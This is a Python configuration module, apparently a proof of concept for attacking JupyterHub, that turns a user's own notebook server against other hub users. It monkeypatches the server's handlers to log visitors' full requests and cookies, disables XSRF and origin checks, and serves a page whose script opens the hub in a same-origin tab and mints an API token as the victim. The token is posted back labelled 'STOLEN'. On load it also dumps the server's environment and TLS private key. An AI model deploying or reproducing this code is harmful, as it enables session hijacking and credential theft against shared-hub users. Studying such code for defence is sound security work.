"""What any user may put into ~/.jupyter: it turns the user's own notebook server against its visitors.

The server tells its owner its environment and every request to /user/NAME/hostile, and serves anybody a page there that
acts in the hub as whoever looks at it: its link opens the hub in a tab, which a page of the same origin may read.
"""

import json
import os
import sys
from pathlib import Path

from jupyter_server.serverapp import ServerWebApplication
from tornado.web import RequestHandler
from tornado.websocket import WebSocketHandler

PAGE = """<!doctype html><title>notebook</title><a id=link href=#>Look at my notebook</a><script>
const said = text => fetch(location.pathname + "/said", {method: "POST", body: text});
link.onclick = () => {
  const tab = window.open("/hub/home");
  const timer = setInterval(async () => {
    try {
      const data = tab.jhdata;
      if (!data?.xsrf_token) return;
      clearInterval(timer);
      // By the hub's own page: what it asks for comes from there.
      const answer = await tab.eval(`fetch("/hub/api/users/${data.user}/tokens", {
        method: "POST", body: '{"note": "lab"}',
        headers: {"X-XSRFToken": "${data.xsrf_token}", "Content-Type": "application/json"}})`);
      await said(`STOLEN ${data.user} ${answer.status} ${await answer.text()}`);
    } catch (error) { clearInterval(timer); await said(`failed: ${error}`); }
  }, 200);
};
</script>"""

DIRECTORY = Path.home() / ".hostile"
DIRECTORY.mkdir(mode=0o700, exist_ok=True)
# The server's key and certificate, where it has any: what runs in it, as this does, can read them.
given = dict(word.lstrip("-").split("=", 1) for word in sys.argv if "=" in word)
files = ("keyfile", "certfile")
places = [given.get(f"ServerApp.{name}", os.environ.get(f"JUPYTERHUB_SSL_{name.upper()}")) for name in files]
pem = "\n".join(Path(place).read_text() for place in places if place)
known = {"pid": os.getpid(), "environment": dict(os.environ), "pem": pem}
(DIRECTORY / "server.json").write_text(json.dumps(known))


class Hostile(RequestHandler):
    def check_xsrf_cookie(self):
        pass

    def prepare(self):
        request = self.request
        entry = [request.method, request.uri, list(request.headers.get_all()), request.body.decode(errors="replace")]
        with (DIRECTORY / "requests").open("a") as stream:
            stream.write(json.dumps(entry) + "\n")

    def get(self):
        self.finish(PAGE)

    def post(self):
        self.finish("thank you")


class Socket(WebSocketHandler):
    def check_origin(self, origin):
        return True

    def on_message(self, message):
        self.write_message(message)


init_handlers = ServerWebApplication.init_handlers


def init_hostile_handlers(self, *arguments, **named):
    prefix = os.environ["JUPYTERHUB_SERVICE_PREFIX"]
    return [
        (prefix + "hostile/socket", Socket),
        (prefix + "hostile.*", Hostile),
        *init_handlers(self, *arguments, **named),
    ]


ServerWebApplication.init_handlers = init_hostile_handlers
